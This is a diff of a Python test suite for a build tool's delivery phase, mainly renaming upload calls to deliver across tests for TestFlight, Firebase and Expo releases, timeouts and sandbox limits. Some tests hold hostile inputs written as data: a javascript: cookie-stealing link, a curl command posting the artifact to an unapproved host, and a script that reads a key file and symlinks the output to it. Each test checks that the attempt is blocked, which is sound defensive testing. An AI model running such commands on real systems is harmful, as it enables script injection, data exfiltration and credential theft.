@@ -163,7 +163,7 @@ async def test_a_testflight_upload_is_processing_then_waited_for_until_its_link(
 ) -> None:
     job = world.job(honk_toml("testflight", TESTFLIGHT_RUN, "./wait.sh", artifact='"*.ipa"'))
 
-    uploaded = await world.delivery.upload(job)
+    uploaded = await world.delivery.deliver(job)
     assert uploaded == DeliveryOutcome(
         state="processing",
         kind="testflight",
@@ -191,7 +191,7 @@ async def test_a_firebase_release_is_delivered_from_the_link_it_prints_with_the_
     world: World, distribution: FakeDistribution
 ) -> None:
     job = world.job(honk_toml("firebase", FIREBASE_RUN, artifact='"build/outputs/*.apk"'))
-    done = await world.delivery.upload(job)
+    done = await world.delivery.deliver(job)
     assert done.state == "delivered", done
     assert done.url == "https://appdistribution.firebase.google.com/testerapps/1:123:android:abc/releases/1"
     [upload] = distribution.uploads
@@ -207,7 +207,7 @@ async def test_an_expo_update_goes_to_the_tasks_own_branch_and_needs_no_artifact
     world: World, distribution: FakeDistribution
 ) -> None:
     shutil.rmtree(world.artifacts)  # a JS-only update publishes from the source
-    done = await world.delivery.upload(world.job(honk_toml("expo-update", EXPO_RUN)))
+    done = await world.delivery.deliver(world.job(honk_toml("expo-update", EXPO_RUN)))
     assert (done.state, done.label) == ("delivered", "Open in Expo Go"), done
     assert done.url == f"https://expo.dev/accounts/honk/projects/shop/updates/1?branch=honk-{TASK}"
     [upload] = distribution.uploads
@@ -219,7 +219,7 @@ async def test_an_expo_update_goes_to_the_tasks_own_branch_and_needs_no_artifact
 async def test_a_command_that_exits_non_zero_fails_with_its_distilled_log(world: World) -> None:
     noisy = "\n".join(f"uploading chunk {i}" for i in range(200))
     run = f"cat <<'EOF'\n{noisy}\nEOF\necho 'Error: The provided App Store Connect API key is not valid' >&2\nexit 3"
-    failed = await world.delivery.upload(world.job(honk_toml("testflight", run)))
+    failed = await world.delivery.deliver(world.job(honk_toml("testflight", run)))
     assert (failed.state, failed.why, failed.url) == ("failed", "exited 3", None)
     assert failed.detail.startswith("## delivery failed (`cat <<'EOF'")
     assert "Error: The provided App Store Connect API key is not valid" in failed.detail
@@ -228,36 +228,36 @@ async def test_a_command_that_exits_non_zero_fails_with_its_distilled_log(world:
 
 
 async def test_a_command_that_prints_no_link_fails_with_the_fix(world: World) -> None:
-    failed = await world.delivery.upload(world.job(honk_toml("command", "echo 'Uploaded. Check your email.'")))
+    failed = await world.delivery.deliver(world.job(honk_toml("command", "echo 'Uploaded. Check your email.'")))
     assert (failed.state, failed.why) == ("failed", NO_LINK)
     assert "Uploaded. Check your email." in failed.detail
-    silent = await world.delivery.upload(world.job(honk_toml("command", "true")))
+    silent = await world.delivery.deliver(world.job(honk_toml("command", "true")))
     assert silent.why == NO_LINK and "it printed nothing" in silent.detail
 
 
 async def test_a_command_that_writes_a_javascript_link_fails_and_no_link_is_posted(world: World) -> None:
     run = 'echo "url=javascript:alert(document.cookie)" >> "$HONK_OUTPUT"; echo https://apps.example.com/x'
-    failed = await world.delivery.upload(world.job(honk_toml("command", run, link_pattern='"https://\\\\S+"')))
+    failed = await world.delivery.deliver(world.job(honk_toml("command", run, link_pattern='"https://\\\\S+"')))
     assert failed.state == "failed" and failed.url is None
     assert failed.why == "$HONK_OUTPUT's url must be an https:// link (a phone opens it from the thread)"
 
 
 async def test_a_command_that_outlives_its_timeout_is_stopped_and_says_so(world: World) -> None:
-    failed = await world.delivery.upload(world.job(honk_toml("command", "echo started; sleep 60", timeout="1")))
+    failed = await world.delivery.deliver(world.job(honk_toml("command", "echo started; sleep 60", timeout="1")))
     assert failed.state == "failed" and failed.why == "stopped after 1 s, its timeout"
 
 
 async def test_a_missing_or_empty_artifact_fails_before_anything_runs(
     world: World, distribution: FakeDistribution
 ) -> None:
-    missing = await world.delivery.upload(world.job(honk_toml("testflight", TESTFLIGHT_RUN, artifact='"*.aab"')))
+    missing = await world.delivery.deliver(world.job(honk_toml("testflight", TESTFLIGHT_RUN, artifact='"*.aab"')))
     assert (missing.state, missing.why) == (
         "failed",
         'no build artifact matches [deliver] artifact = "*.aab" (the build kept Shop.ipa, shop.apk; '
         "list it in [build] artifacts)",
     )
     (world.artifacts / "Shop.ipa").write_bytes(b"")
-    empty = await world.delivery.upload(world.job(honk_toml("testflight", TESTFLIGHT_RUN, artifact='"*.ipa"')))
+    empty = await world.delivery.deliver(world.job(honk_toml("testflight", TESTFLIGHT_RUN, artifact='"*.ipa"')))
     assert (empty.state, empty.why) == ("failed", "the build's artifact Shop.ipa is empty")
     assert distribution.requests == [] and not (world.areas / TASK).exists()
 
@@ -269,7 +269,7 @@ async def test_a_host_the_deliver_phase_was_not_given_is_refused_by_the_proxy(
     world: World, distribution: FakeDistribution
 ) -> None:
     run = f'curl -sS --fail --max-time 10 --data-binary @"$HONK_ARTIFACT" https://{OTHER}/v1/apps/x/releases'
-    failed = await world.delivery.upload(world.job(honk_toml("command", run)))
+    failed = await world.delivery.deliver(world.job(honk_toml("command", run)))
     assert failed.state == "failed" and failed.why.startswith("exited "), failed
     assert distribution.requests == [], "the service behind the name never heard a thing"
     blocked = Sandbox.blocked(world.area)
@@ -282,7 +282,7 @@ async def test_a_post_to_a_host_listed_only_for_reading_is_refused(
     """The deliver phase runs code the agent may have written: listed hosts are read-only unless
     [[network.allow]] gives it more."""
     toml = honk_toml("firebase", FIREBASE_RUN).replace('methods = ["POST"]', 'methods = ["GET"]')
-    failed = await world.delivery.upload(world.job(toml))
+    failed = await world.delivery.deliver(world.job(toml))
     assert failed.state == "failed" and distribution.uploads == []
     assert [(b.host, b.reason) for b in Sandbox.blocked(world.area)] == [(UPLOAD, "method")]
 
@@ -303,7 +303,7 @@ cat {key} || echo "the key is not there"
 rm -f "$HONK_OUTPUT" && ln -s {key} "$HONK_OUTPUT"
 exit 0
 """
-    failed = await world.delivery.upload(world.job(honk_toml("command", run, artifact='"*.ipa"')))
+    failed = await world.delivery.deliver(world.job(honk_toml("command", run, artifact='"*.ipa"')))
     assert (failed.state, failed.why) == ("failed", "$HONK_OUTPUT is not a plain file (a link, or removed while read)")
     log = Path(failed.log_path or "").read_text()
     for said in ("artifact is read-only", "artifacts dir is read-only", "the area is not ours", "the key is covered"):
